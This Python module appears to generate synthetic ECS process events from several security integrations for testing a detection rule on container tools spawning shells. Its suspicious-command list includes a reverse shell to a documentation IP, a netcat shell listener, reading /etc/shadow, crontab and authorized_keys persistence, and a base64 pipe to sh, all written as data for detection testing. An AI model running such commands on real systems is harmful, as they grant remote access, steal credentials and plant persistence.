"""Generated ECS process events for the demo, the samples, the live tests and the benchmarks.

A seed gives the same events every time. Each event knows what it is:

    match       the seed rule finds it
    near miss   it shares every clause with a match but one
    noise       ordinary process events

Six integrations are played, one an index pattern of the seed rule, each in its own `event.action`; some of them send no
`event.ingested`, as auditbeat does.
"""

import random
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from runner.offline.memory import StoredEvent
from runner.query.timestamps import timestamp

LONGEST_DELAY = timedelta(minutes=3)
"""Until the events of a slow sender come in."""


@dataclass(frozen=True, slots=True)
class Arrival:
    """An event and the instant at which it can first be searched; `kind` is match, near miss or noise."""

    event: StoredEvent
    time: datetime
    arrives: datetime
    kind: str

    @property
    def late(self) -> timedelta:
        """How long after it happened the event came in."""
        return self.arrives - self.time


@dataclass(frozen=True, slots=True)
class Integration:
    """A sender of events: its index, how it names a start, and whether it stamps `event.ingested`."""

    index: str
    action: str
    ingested: bool = True


INTEGRATIONS = (
    Integration("logs-endpoint.events.process-default", "exec"),
    Integration("logs-auditd_manager.auditd-default", "executed"),
    Integration("logs-crowdstrike.fdr-default", "ProcessRollup2"),
    Integration("logs-sentinel_one_cloud_funnel.event-default", "start"),
    Integration("auditbeat-8.19.8", "process_started", ingested=False),
    Integration("endgame-4.28.7", "exec_event", ingested=False),
)

_HOSTS = ("web-01", "web-02", "build-07", "k8s-node-3", "k8s-node-9", "bastion")
_USERS = ("root", "deploy", "alice", "bob", "ci-runner")

_SUSPICIOUS = (
    (
        "kubectl",
        ["run", "dbg", "--restart=Never", "--image=alpine", "--", "sh", "-c", "nc -lvp 4444 -e /bin/sh > /tmp/o"],
    ),
    ("kubectl", ["run", "x", "--restart=Never", "--image=busybox", "--", "bash", "-c", "cat /etc/shadow"]),
    ("docker", ["run", "--rm", "-v", "/:/host", "alpine", "sh", "-c", "echo '* * * * * root id' >> /host/etc/crontab"]),
    ("docker", ["run", "-d", "ubuntu", "bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"]),
    ("nerdctl", ["run", "alpine", "sh", "-c", "echo aGk= | base64 -d | sh"]),
    ("ctl", ["run", "img", "zsh", "-c", "cp k /root/.ssh/authorized_keys"]),
)

_ORDINARY = (
    ("nginx", ["-g", "daemon off;"]),
    ("python3", ["-m", "http.server"]),
    ("kubectl", ["get", "pods", "-A"]),
    ("docker", ["ps", "--all"]),
    ("bash", ["-c", "ls -l /srv"]),
    ("git", ["fetch", "--prune"]),
    ("systemd", ["--user"]),
    ("sshd", ["-D"]),
)

_SHELLS = ("bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish")

# One change each, after which exactly one clause of the seed rule no longer holds.
_NEAR_MISSES: tuple[tuple[str, Callable[[dict[str, Any]], None]], ...] = (
    ("another system", lambda e: e["host"]["os"].update(type="windows")),
    ("not a start", lambda e: e["event"].update(type=["end"])),
    ("another action", lambda e: e["event"].update(action="fork")),
    ("another category", lambda e: e["event"].update(category=["file"])),
    ("another tool", lambda e: e["process"].update(name="podman")),
    ("the tool in capitals", lambda e: e["process"].update(name=e["process"]["name"].upper())),
    ("no run", lambda e: e["process"].update(args=[a for a in e["process"]["args"] if a != "run"])),
    (
        "no shell",
        lambda e: e["process"].update(args=["/usr/bin/env" if a in _SHELLS else a for a in e["process"]["args"]]),
    ),
    ("a harmless command", lambda e: e["process"].update(command_line=f"{e['process']['name']} run hello-world sh")),
    ("no command line", lambda e: e["process"].pop("command_line")),
)


def process_events(
    count: int,
    start: datetime,
    end: datetime,
    *,
    matches: int,
    near_misses: int = 0,
    late: float = 0.0,
    seed: int = 0,
) -> Iterator[Arrival]:
    """Yield `count` events between `start` and `end`, in the order of their time; `late` is the share that is delayed.

    Exactly `matches` of them match the seed rule and `near_misses` miss it by one clause.
    """
    chance = random.Random(seed)  # noqa: S311  # the same events every time is the point
    kinds = ["match"] * matches + ["near miss"] * near_misses
    kinds += ["noise"] * (count - len(kinds))
    chance.shuffle(kinds)
    step = (end - start) / max(count, 1)
    for position, kind in enumerate(kinds):
        time = _milliseconds(start + step * position)
        slow = chance.random() < late
        delay = LONGEST_DELAY * chance.uniform(0.2, 1.0) if slow else timedelta(seconds=chance.uniform(0.2, 2.0))
        yield _arrival(chance, kind, f"{seed}-{position:07}", time, _milliseconds(time + delay))


def _arrival(chance: random.Random, kind: str, event_id: str, time: datetime, arrives: datetime) -> Arrival:
    integration = chance.choice(INTEGRATIONS)
    name, args = chance.choice(_ORDINARY if kind == "noise" else _SUSPICIOUS)
    source = _process_event(chance, integration, name, args, time)
    if integration.ingested:
        source["event"]["ingested"] = timestamp(arrives)
    if kind == "near miss":
        chance.choice(_NEAR_MISSES)[1](source)
    return Arrival(StoredEvent(integration.index, event_id, source), time, arrives, kind)


def _process_event(
    chance: random.Random, integration: Integration, name: str, args: list[str], time: datetime
) -> dict[str, Any]:
    host = chance.choice(_HOSTS)
    return {
        "@timestamp": timestamp(time),
        "ecs": {"version": "8.17.0"},
        "agent": {"id": f"agent-{host}", "type": integration.index.split("-", 1)[0]},
        "event": {
            "kind": "event",
            "category": ["process"],
            "type": ["start"],
            "action": integration.action,
            "dataset": integration.index.removeprefix("logs-").removesuffix("-default"),
            "outcome": "success",
        },
        "host": {
            "name": host,
            "hostname": host,
            "id": f"id-{host}",
            "ip": [f"10.0.0.{chance.randrange(2, 250)}"],
            "os": {"type": "linux", "family": "debian", "name": "Debian GNU/Linux", "version": "12"},
        },
        "user": {"name": chance.choice(_USERS), "id": str(chance.randrange(2000))},
        "process": {
            "name": name,
            "executable": f"/usr/bin/{name}",
            "pid": chance.randrange(2, 60_000),
            "entity_id": f"{chance.getrandbits(64):016x}",
            "args": [name, *args],
            "args_count": 1 + len(args),
            "command_line": " ".join([name, *args]),
            "working_directory": "/srv",
            "parent": {"name": "bash", "pid": chance.randrange(2, 60_000), "executable": "/usr/bin/bash"},
        },
    }


def as_bulk_lines(arrivals: Iterator[Arrival]) -> Iterator[Mapping[str, Any]]:
    """Yield the lines of a `_bulk` request that indexes the events: an action, then its document, and so on."""
    for arrival in arrivals:
        yield {"create": {"_index": arrival.event.index, "_id": arrival.event.id}}
        yield arrival.event.source


def _milliseconds(instant: datetime) -> datetime:
    return instant.replace(microsecond=instant.microsecond // 1000 * 1000)
